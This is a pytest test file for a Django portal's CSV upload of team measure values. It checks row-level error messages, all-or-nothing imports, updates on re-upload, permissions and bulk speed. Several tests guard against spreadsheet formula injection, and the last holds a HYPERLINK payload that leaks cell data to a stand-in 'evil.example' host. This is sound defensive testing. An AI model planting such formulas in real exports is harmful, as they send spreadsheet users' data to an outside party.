"""CSV upload of a team's measure values: all or nothing, every bad row with its line number,
re-uploads update, formulas stay text, and 5,000 rows import in seconds with bulk writes."""

import time
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from collaboratives.measures.csv_import import CsvRejected, values_import
from collaboratives.models import MeasureValue
from core.models import AuditEntry
from tests.collaboratives.util import url
from tests.factories import MeasureFactory, MeasureValueFactory
from tests.once import token

pytestmark = pytest.mark.django_db

TODAY = date(2026, 11, 23)  # a Monday


@pytest.fixture
def rate(world):
    return MeasureFactory(collaborative=world.collaborative, name="Chronic absenteeism rate")


@pytest.fixture
def visits(world):
    return MeasureFactory(collaborative=world.collaborative, name="Home visits",
                          monthly_count=True)


def upload(world, text, *, actor=None, encoding="utf-8", today=TODAY):
    raw = text.encode(encoding) if isinstance(text, str) else text
    return values_import(team=world.team_a, collaborative=world.collaborative,
                         actor=actor or world.member_a, raw=raw, filename="data.csv",
                         today=today)


def rejected(world, text, **kwargs) -> CsvRejected:
    with pytest.raises(CsvRejected) as caught:
        upload(world, text, **kwargs)
    return caught.value


def messages_of(error: CsvRejected) -> dict[int, str]:
    return {row.line: row.message for row in error.rows}


def test_a_good_file_imports_every_row_and_normalises_periods(world, rate, visits):
    result = upload(world, "measure,period,value,note\n"
                           "Chronic absenteeism rate,2026-09-07,21.5,\n"
                           "chronic ABSENTEEISM  rate,9/16/2026,20%,a Wednesday\n"
                           "Home visits,2026-09-18,14,\n")
    assert (result.rows, result.created, result.updated) == (3, 3, 0)
    rows = {(v.measure.name, v.period): (v.value, v.note, v.source)
            for v in MeasureValue.objects.select_related("measure")}
    assert rows == {
        ("Chronic absenteeism rate", date(2026, 9, 7)): (Decimal("21.5"), "", "csv"),
        # any day of the week stands for the week: stored on its Monday
        ("Chronic absenteeism rate", date(2026, 9, 14)): (Decimal("20"), "a Wednesday", "csv"),
        ("Home visits", date(2026, 9, 1)): (Decimal("14"), "", "csv"),  # the month's first
    }
    assert AuditEntry.objects.filter(action="measures:csv_imported").count() == 1


def test_a_byte_order_mark_and_us_dates_are_accepted(world, rate):
    result = upload(world, "\ufeffMeasure,Date,Value\r\nChronic absenteeism rate,9/7/2026,"
                           "18\r\n", encoding="utf-8")
    assert result.rows == 1
    assert MeasureValue.objects.get().period == date(2026, 9, 7)


def test_columns_in_any_order_and_extra_columns_are_ignored_and_named(world, rate):
    result = upload(world, "school,value,measure,period\n"
                           "OMS,12.25,Chronic absenteeism rate,2026-09-07\n")
    assert result.ignored_columns == ["school"]
    assert MeasureValue.objects.get().value == Decimal("12.25")


def test_every_bad_row_is_listed_with_its_line_and_reason_and_nothing_is_imported(
        world, rate, visits):
    MeasureValueFactory(team=world.team_a, measure=rate, period=date(2026, 8, 31),
                        value=Decimal("30"))
    error = rejected(world, "\n".join([
        "measure,period,value,note",                               # line 1
        "Chronic absenteeism rate,2026-09-07,21.5,fine",           # 2: good
        "Chronic absenteeism rate,2026-02-30,20,",                 # 3: not a real date
        "Chronic absenteeism rate,7 Sept 2026,20,",                # 4: not a date
        "Chronic absenteeism rate,2026-09-21,twenty,",             # 5: not a number
        "Chronic absenteeism rate,2026-09-28,104,",                # 6: percent over 100
        "Chronic absenteeism rate,2026-10-05,-2,",                 # 7: negative
        "Chronic absenteeism rate,2026-09-09,19,",                 # 8: same week as line 2
        "Absences per day,2026-09-07,4,",                          # 9: unknown measure
        "Home visits,2026-09-01,2.5,",                             # 10: count not whole
        "Chronic absenteeism rate,2026-12-07,18,",                 # 11: in the future
        "Chronic absenteeism rate,,,",                             # 12: period, value missing
        "",                                                        # 13: blank (skipped)
        "Chronic absenteeism rate,9/7/26,18,",                     # 14: two-digit year
        "Home visits,2026-10-01,=SUM(A1:A3),",                     # 15: a formula
        "Chronic absenteeism rate,2026-10-12,18.5%,",              # 16: good
        "Home visits,2026-11-01,3%,",                              # 17: % on a count
    ]) + "\n")
    lines = messages_of(error)
    assert sorted(lines) == [3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 14, 15, 17]
    assert lines[3] == "Line 3: the period “2026-02-30” is not a real date."
    assert "is not a date; write 2026-09-07 or 9/7/2026" in lines[4]
    assert "the value “twenty” is not a number" in lines[5]
    assert "104 is outside 0-100 for a percentage" in lines[6]
    assert "-2 is below 0" in lines[7]
    assert ("duplicate period: week of Mon 7 Sep 2026 of “Chronic absenteeism rate” is "
            "already on line 2") in lines[8]
    assert "unknown measure “Absences per day”" in lines[9]
    assert "“Chronic absenteeism rate”, “Home visits”" in lines[9]  # says which exist
    assert "2.5 is not a whole number, and this measure is a count" in lines[10]
    assert "week of Mon 7 Dec 2026 has not begun yet" in lines[11]
    assert "the period is missing; the value is missing" in lines[12]
    assert "two-digit year" in lines[14]
    assert "“=SUM(A1:A3)” looks like a spreadsheet formula" in lines[15]
    assert "has a % sign, but Home visits is not a percentage" in lines[17]
    assert error.summary.startswith("Nothing was imported: 13 of 15 rows have problems.")
    # the good rows did not go in, and the value already there was not touched
    assert list(MeasureValue.objects.values_list("period", "value")) == [
        (date(2026, 8, 31), Decimal("30.0000"))]
    assert not AuditEntry.objects.filter(action="measures:csv_imported").exists()


def test_a_row_with_several_problems_lists_them_all(world, rate):
    lines = messages_of(rejected(world, "measure,period,value\nNope,someday,lots\n"))
    assert lines == {2: "Line 2: unknown measure “Nope” (this collaborative's measures: "
                        "“Chronic absenteeism rate”); the period “someday” is not a date; "
                        "write 2026-09-07 or 9/7/2026."}


def test_a_thousands_comma_outside_quotes_is_explained(world, visits):
    lines = messages_of(rejected(world, "measure,period,value\nHome visits,2026-09-01,1,204\n"))
    assert "it has 4 cells but the header has 3" in lines[2]
    result = upload(world, 'measure,period,value\nHome visits,2026-09-01,"1,204"\n')
    assert result.rows == 1 and MeasureValue.objects.get().value == Decimal("1204")


@pytest.mark.parametrize("text, message", [
    ("", "The file is empty"),
    ("measure,period,value\n", "has a header row but no values"),
    ("measure;period;value\nChronic absenteeism rate;2026-09-07;4\n", "not separated by commas"),
    ("metric,when,amount\nChronic absenteeism rate,2026-09-07,4\n",
     "must name the columns measure, period and value (missing: measure, period, value; found: "
     "metric, when, amount)"),
    ("measure,period,value,date\nx,2026-09-07,1,2026-09-07\n", "names period more than once"),
    ('measure,period,value\n"Chronic absenteeism rate,2026-09-07,4\n', "Line 2 cannot be read"),
])
def test_a_file_that_cannot_be_read_is_refused_as_a_whole(world, rate, text, message):
    error = rejected(world, text)
    assert message in error.summary
    assert not MeasureValue.objects.exists()


def test_a_file_that_is_not_utf8_is_refused_with_the_line(world, rate):
    raw = "measure,period,value,note\nChronic absenteeism rate,2026-09-07,4,café\n".encode(
        "cp1252")
    error = rejected(world, raw)
    assert error.summary.startswith("Line 2 is not UTF-8 text.")
    assert "CSV UTF-8" in error.summary


def test_a_binary_file_is_refused(world, rate):
    assert "not a text file" in rejected(world, b"\x89PNG\r\n\x1a\n\x00\x00").summary


def test_size_and_row_limits(world, rate, settings):
    settings.MEASURES_CSV_MAX_ROWS = 3
    body = "measure,period,value\n" + "".join(
        f"Chronic absenteeism rate,{date(2026, 1, 5) + timedelta(weeks=i)},10\n"
        for i in range(4))
    assert "has 4 rows of values; at most 3" in rejected(world, body).summary
    settings.MEASURES_CSV_MAX_ROWS = 10
    settings.MEASURES_CSV_MAX_BYTES = 50
    assert "files can be at most" in rejected(world, body).summary
    assert not MeasureValue.objects.exists()


def test_reuploading_a_period_updates_the_value_instead_of_duplicating(world, rate):
    first = upload(world, "measure,period,value\nChronic absenteeism rate,2026-09-07,21\n"
                          "Chronic absenteeism rate,2026-09-14,20\n")
    second = upload(world, "measure,period,value,note\n"
                           "Chronic absenteeism rate,2026-09-09,19,corrected\n"  # same week
                           "Chronic absenteeism rate,2026-09-21,18,\n")
    assert (first.created, first.updated) == (2, 0)
    assert (second.created, second.updated) == (1, 1)
    assert list(MeasureValue.objects.order_by("period").values_list("period", "value", "note")) \
        == [(date(2026, 9, 7), Decimal("19"), "corrected"), (date(2026, 9, 14), Decimal("20"), ""),
            (date(2026, 9, 21), Decimal("18"), "")]


def test_a_formula_in_a_note_is_stored_as_text_and_leaves_with_an_apostrophe(client, world,
                                                                            rate):
    upload(world, "measure,period,value,note\n"
                  'Chronic absenteeism rate,2026-09-07,21,"=HYPERLINK(""http://x.example"")"\n'
                  "Chronic absenteeism rate,2026-09-14,20,@SUM(1+1)\n")
    notes = list(MeasureValue.objects.order_by("period").values_list("note", flat=True))
    assert notes == ['=HYPERLINK("http://x.example")', "@SUM(1+1)"]  # kept as written
    client.force_login(world.member_b)  # another team reads the export
    body = client.get(url("values_export", "attendance-works", world.team_a.pk)).content
    text = body.decode("utf-8-sig")
    assert "\"'=HYPERLINK(\"\"http://x.example\"\")\"" in text
    assert "'@SUM(1+1)" in text
    assert "\n=" not in text and ",=" not in text and ",@" not in text


def test_a_formula_in_the_value_is_refused_not_evaluated(world, rate):
    lines = messages_of(rejected(world, "measure,period,value\n"
                                        "Chronic absenteeism rate,2026-09-07,=1+2\n"
                                        "Chronic absenteeism rate,2026-09-14,+1+2\n"
                                        "Chronic absenteeism rate,2026-09-21,@A1\n"))
    assert all("looks like a spreadsheet formula" in message for message in lines.values())
    assert sorted(lines) == [2, 3, 4]


def test_only_the_teams_members_upload(world, rate):
    for person in (world.member_b, world.coach_a, world.outsider):
        with pytest.raises(ValidationError, match="Only members of the team enter its data"):
            upload(world, "measure,period,value\nChronic absenteeism rate,2026-09-07,4\n",
                   actor=person)
    assert not MeasureValue.objects.exists()


def test_the_upload_page_lists_every_bad_row_and_a_good_upload_redirects(client, world, rate):
    client.force_login(world.member_a)
    path = url("values_upload", "attendance-works", world.team_a.pk)
    page = client.get(path)
    assert page.status_code == 200
    assert "measure</code>, <code>period</code> and <code>value</code>" in page.content.decode()
    bad = SimpleUploadedFile("data.csv", b"measure,period,value\n"
                                         b"Chronic absenteeism rate,2026-09-07,x\n"
                                         b"Chronic absenteeism rate,2026-09-14,101\n")
    response = client.post(path, {**token(), "file": bad})
    html = response.content.decode()
    assert response.status_code == 400
    assert "Nothing was imported: 2 of 2 rows have problems." in html
    assert '<th scope="row" class="num">2</th>' in html and "“x” is not a number" in html
    assert '<th scope="row" class="num">3</th>' in html and "outside 0-100" in html
    good = SimpleUploadedFile("data.csv", "\ufeffmeasure,period,value\n"
                                          "Chronic absenteeism rate,2026-09-07,12\n".encode())
    response = client.post(path, {**token(), "file": good}, follow=True)
    assert response.redirect_chain[-1][0] == url("team_measures", "attendance-works",
                                                 world.team_a.pk)
    assert "Imported 1 value (1 new, 0 updated) for Chronic absenteeism rate." in (
        response.content.decode())


def test_the_page_refuses_a_file_over_the_size_limit_before_reading_it(client, world, rate,
                                                                      settings):
    settings.MEASURES_CSV_MAX_BYTES = 1024
    client.force_login(world.member_a)
    big = SimpleUploadedFile("big.csv", b"measure,period,value\n" + b"x" * 2048)
    response = client.post(url("values_upload", "attendance-works", world.team_a.pk),
                           {**token(), "file": big})
    assert response.status_code == 400
    assert "“big.csv” is 0.0 MB; files can be at most" in response.content.decode()
    assert not MeasureValue.objects.exists()


def test_the_template_names_the_collaboratives_measures(client, world, rate, visits):
    client.force_login(world.member_b)
    response = client.get(url("csv_template", "attendance-works"))
    text = response.content.decode("utf-8-sig")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert text.splitlines()[0] == "measure,period,value,note"
    assert {line.split(",")[0] for line in text.splitlines()[1:]} == {
        "Chronic absenteeism rate", "Home visits"}


def test_five_thousand_rows_import_in_seconds_with_bulk_writes(world,
                                                               django_assert_max_num_queries):
    measures = [MeasureFactory(collaborative=world.collaborative, name=f"Measure {n}")
                for n in range(20)]
    start = date(2021, 11, 1)
    lines = ["measure,period,value,note"]
    for measure in measures:
        lines += [f"{measure.name},{start + timedelta(weeks=w)},{(w * 7 + 3) % 100}.5,week {w}"
                  for w in range(250)]
    body = ("\n".join(lines) + "\n").encode()
    assert len(lines) == 5001
    with django_assert_max_num_queries(40) as queries:
        began = time.perf_counter()
        result = upload(world, body)
        first = time.perf_counter() - began
    assert (result.created, result.updated) == (5000, 0)
    assert MeasureValue.objects.filter(team=world.team_a).count() == 5000
    began = time.perf_counter()
    again = upload(world, body)  # the same file again: every row updates
    second = time.perf_counter() - began
    assert (again.created, again.updated) == (0, 5000)
    assert MeasureValue.objects.filter(team=world.team_a).count() == 5000
    print(f"\n5,000-row CSV import: {first:.2f} s new, {second:.2f} s as updates, "
          f"{len(queries.captured_queries)} queries")
    assert first < 10 and second < 10


def test_the_template_writes_a_formula_like_measure_name_as_text(client, world):
    """A coach-defined measure name that starts like a formula leaves the template with an
    apostrophe (the portal's one formula-safe writer), and a file made from the template reads
    back into the same measure."""
    import csv
    import io

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    measure = MeasureFactory(collaborative=world.collaborative, name=evil)
    client.force_login(world.member_b)
    response = client.get(url("csv_template", "attendance-works"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + evil
    assert not any(cell.startswith("=") for row in rows for cell in row)
    filled = io.StringIO()
    csv.writer(filled).writerows([rows[0], [rows[1][0], "2026-11-16", "12", ""]])
    result = upload(world, filled.getvalue())
    assert result.created == 1
    assert MeasureValue.objects.get().measure == measure
